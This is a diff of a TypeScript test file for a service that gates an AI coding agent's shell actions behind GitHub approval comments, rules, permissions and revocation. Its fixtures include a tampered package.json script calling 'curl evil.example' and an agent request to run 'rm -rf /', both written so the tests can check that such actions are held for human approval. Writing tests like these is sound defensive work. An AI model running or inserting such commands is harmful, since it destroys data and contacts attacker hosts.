@@ -1,4 +1,4 @@
-import { agentOf, ServiceError } from '../../shared/service/index.ts';
+import { ServiceError } from '../../shared/service/index.ts';
 import type { AgentServer } from '../../shared/service/openhands/types.ts';
 import { commentEvent } from '../../test/support/deliveries.ts';
 import { told } from '../../test/support/questions/some.ts';
@@ -31,30 +31,6 @@ const has = (files: Files) => (scene: Scene) => {
   Object.assign(service.agent, { readFile, pending: async () => ({ ...told(...scene.pending), folder }) });
 };
 
-playScenes`
-  an action that is accepted while its files are unchanged runs without a question then
-    ${has(same)} | ${unchanged} | asks npm test | sent approve | no questions | decisions rule 1 approve verified
-  people are asked where the file that runs is not as on the default branch
-    ${has({ ...same, 'package.json': scripts('curl evil.example') })} | ${unchanged} | asks npm test | sent nothing
-    1 question
-
-  a question says who may approve it: %s
-    under %s | asks npm test | question says %s
-    - one permission ~ label: agent ~ Answers count from people with \`write\` access or more.
-    - another than to reject ~ permission: { approve: maintain } ~ Approvals count from people with \`maintain\` access or more, rejections with \`write\`.
-    - several of them ~ permission: { approve: maintain }\nrules: [{ ask: {}, people: 2 }] ~ Still needed: 2 people with \`maintain\` access.
-    - a team ~ teams: [gardeners] | ${isGardener} ~ with \`write\` access or more, in the team \`gardeners\`.
-    - somebody else ~ allow_requester: false ~ **Somebody else has to approve**: not who started or instructed the agent.
-    - several others ~ allow_requester: false\nrules: [{ ask: {}, people: 2 }] ~ with \`write\` access, not who started or instructed the agent.
-
-  an accepted action runs without a question, and the comment and the decisions name the rule
-    ${tests} | asks npm test | sent approve | no questions | decisions rule 1 approve verified
-    comment says /✅ allowed by rule 1 of \`octo.garden.\.github.agent-conversations\.yml@\w+\`.*npm test/
-    asks rm -rf / | sent approve | 1 question | question says rm -rf /
-  a rejected action is refused with the reason, and the agent goes on
-    under rules: [{ reject: { tool: terminal }, reason: Not here. }] | asks ls | sent reject Not here., run
-    no questions | comment says 🚫 rejected by rule 1 of 
-`;
 const extendsBase = ({ rig: { github } }: Scene) => {
   github.newestCommit = '520f7f2a'.repeat(5);
   github.files.set('octo/base', 'rules:\n  - accept: { command: npm test }\n');
@@ -79,7 +55,66 @@ const waitsOn = (scene: Scene) => {
   Object.assign(scene.rig.service.agent, { pending, answer });
 };
 const twentyTimes = Array.from({ length: 20 }, (_, at) => `asks ls ${at}`);
+const answersFail = (error: string) =>
+  `the service has { answerFault: { error: !fault ${error}, taken: false } }`;
+/** Ada takes back her grant in the moment in which it would approve. */
+const takesBackAtLook = async (scene: Scene) => {
+  const { rig } = scene;
+  const body = await withCodes(scene, '/reject CODE1');
+  const takeBack = async () => {
+    const comment = { id: 950, body, user: people.ada };
+    const payload = commentEvent(body, { sender: people.ada, comment });
+    await rig.store.inbox.put({ id: 'b', event: 'issue_comment', payload, receivedAt: rig.clock.now() });
+    await rig.handleDeliveries();
+  };
+  let isTaken = false;
+  const pending = async () => {
+    const isGranted = (await questionsOf(scene)).at(1)?.answer;
+    if (isGranted && !isTaken) {
+      isTaken = true;
+      await takeBack();
+    }
+    return told(...scene.pending);
+  };
+  Object.assign(rig.service.agent, { pending });
+};
+/** The answer of a rule is lost, and for a while nobody can read what is pending. */
+const loses = (scene: Scene) => {
+  let isSent = false;
+  const answer = async () => {
+    scene.rig.service.requests.push('approve');
+    isSent = true;
+    throw new ServiceError('answer_unknown', 'reset');
+  };
+  const until = scene.rig.clock.now() + 150_000;
+  const pending = async () => {
+    if (isSent && scene.rig.clock.now() < until) throw new ServiceError('unavailable', 'down');
+    return told(...scene.pending);
+  };
+  Object.assign(scene.rig.service.agent, { answer, pending });
+};
 playScenes`
+  an action that is accepted while its files are unchanged runs without a question then
+    ${has(same)} | ${unchanged} | asks npm test | sent approve | no questions | decisions rule 1 approve verified
+  people are asked where the file that runs is not as on the default branch
+    ${has({ ...same, 'package.json': scripts('curl evil.example') })} | ${unchanged} | asks npm test | sent nothing
+    1 question
+  a question says who may approve it: %s
+    under %s | asks npm test | question says %s
+    - one permission ~ label: agent ~ Answers count from people with \`write\` access or more.
+    - another than to reject ~ permission: { approve: maintain } ~ Approvals count from people with \`maintain\` access or more, rejections with \`write\`.
+    - several of them ~ permission: { approve: maintain }\nrules: [{ ask: {}, people: 2 }] ~ Still needed: 2 people with \`maintain\` access.
+    - a team ~ teams: [gardeners] | ${isGardener} ~ with \`write\` access or more, in the team \`gardeners\`.
+    - somebody else ~ allow_requester: false ~ **Somebody else has to approve**: not who started or instructed the agent.
+    - several others ~ allow_requester: false\nrules: [{ ask: {}, people: 2 }] ~ with \`write\` access, not who started or instructed the agent.
+
+  an accepted action runs without a question, and the comment and the decisions name the rule
+    ${tests} | asks npm test | sent approve | no questions | decisions rule 1 approve verified
+    comment says /✅ allowed by rule 1 of \`octo.garden.\.github.agent-conversations\.yml@\w+\`.*npm test/
+    asks rm -rf / | sent approve | 1 question | question says rm -rf /
+  a rejected action is refused with the reason, and the agent goes on
+    under rules: [{ reject: { tool: terminal }, reason: Not here. }] | asks ls | sent reject Not here., run
+    no questions | comment says 🚫 rejected by rule 1 of 
   the comment links to the line of the rule, in the repository and at the commit of its file
     ${extendsBase} | under _extends: base | asks npm test
     comment says /rule 1.\(.*octo.base.blob.(520f7f2a){5}.*yml#L2\) of/
@@ -149,34 +184,13 @@ playScenes`
   whoever owned paths when they approved has to own as much when the answer is sent
     ${owned.replace('true', 'true, people: 2')} | owners db/ @bob | edits db/a.sql and db/web/b.js | bob: /approve
     owners db/ @bob\ndb/a.sql @cleo | ada: /approve | sent nothing | reply says may not approve here any more
-`;
-const takesNoAnswer = ({ rig: { service } }: Scene) => {
-  const answer = async () => Promise.reject(new ServiceError('rejected', 'no such request'));
-  Object.assign(service.agent, { answer });
-};
-playScenes`
   a team that GitHub does not show is told, and counts for nobody
     ${owned} | owners db/ @octo/dba | edits db/a.sql | ${({ rig }) => rig.github.members.add('dba/bob')}
     GitHub refuses /memberships/: 403 Resource not accessible by integration | ada: /approve | sent nothing
     reply says **members: read** | bob: /approve | sent approve
   where the agent server takes no rejection of a rule, as many people have to approve as any rule asks for
-    ${takesNoAnswer} | under rules: [{ reject: { tool: terminal } }, { ask: { path: "db/**" }, people: 2 }]
+    ${answersFail('rejected no such request')} | under rules: [{ reject: { tool: terminal } }, { ask: { path: "db/**" }, people: 2 }]
     asks rm -rf / | 1m passes | question says of 2 approvals so far
-`;
-
-/** The agent server fails at each answer while it is down. */
-const down =
-  (isDown: boolean) =>
-  ({ rig: { service } }: Scene) => {
-    const answer = async () => {
-      if (isDown) throw new ServiceError('unavailable', 'later');
-      service.requests.push('approve');
-      service.change({ agent: agentOf('running') });
-    };
-    Object.assign(service.agent, { answer });
-  };
-
-playScenes`
   after /approve always the very same action needs no answer, another one does, and it can be taken back
     ${none} | asks make docs | ada: /approve always | sent approve | asks make docs | sent approve, approve
     1 question | comment says allowed by \`/approve always by ada\`: \`make docs\` | asks make docs -B
@@ -201,51 +215,12 @@ playScenes`
   a further round rejects what rules reject now
     ${deploying} | asks make deploy | finishes | under rules: [{ reject: { tool: terminal } }]
     ada: /agent please look again | asks make deploy | sent approve, reject, run | no questions
-
   /approve always is taken back also while its answer is tried again
-    ${none} | asks make docs | ada: /approve always | ${down(true)} | asks make docs | ada: /reject CODE1
-    ${down(false)} | 30s pass | sent approve | question says make docs
+    ${none} | asks make docs | ada: /approve always | ${answersFail('unavailable later')} | asks make docs | ada: /reject CODE1
+    the service has { answerFault: null } | 30s pass | sent approve | question says make docs
   /approve always is taken back however often it has held since
     ${none} | asks make docs | ada: /approve always | ${Array.from({ length: 51 }, () => 'asks make docs')}
     1 question | ada: /reject CODE1 | reply says is asked about again from now on | asks make docs | 2 questions
-`;
-/** Ada takes back her grant in the moment in which it would approve. */
-const takesBackAtLook = async (scene: Scene) => {
-  const { rig } = scene;
-  const body = await withCodes(scene, '/reject CODE1');
-  const takeBack = async () => {
-    const comment = { id: 950, body, user: people.ada };
-    const payload = commentEvent(body, { sender: people.ada, comment });
-    await rig.store.inbox.put({ id: 'b', event: 'issue_comment', payload, receivedAt: rig.clock.now() });
-    await rig.handleDeliveries();
-  };
-  let isTaken = false;
-  const pending = async () => {
-    const isGranted = (await questionsOf(scene)).at(1)?.answer;
-    if (isGranted && !isTaken) {
-      isTaken = true;
-      await takeBack();
-    }
-    return told(...scene.pending);
-  };
-  Object.assign(rig.service.agent, { pending });
-};
-/** The answer of a rule is lost, and for a while nobody can read what is pending. */
-const loses = (scene: Scene) => {
-  let isSent = false;
-  const answer = async () => {
-    scene.rig.service.requests.push('approve');
-    isSent = true;
-    throw new ServiceError('answer_unknown', 'reset');
-  };
-  const until = scene.rig.clock.now() + 150_000;
-  const pending = async () => {
-    if (isSent && scene.rig.clock.now() < until) throw new ServiceError('unavailable', 'down');
-    return told(...scene.pending);
-  };
-  Object.assign(scene.rig.service.agent, { answer, pending });
-};
-playScenes`
   /approve always that is taken back while the agent is looked at approves nothing any more
     ${none} | asks make docs | ada: /approve always | ${takesBackAtLook} | asks make docs
     reply says is asked about again from now on | sent approve | 2 questions
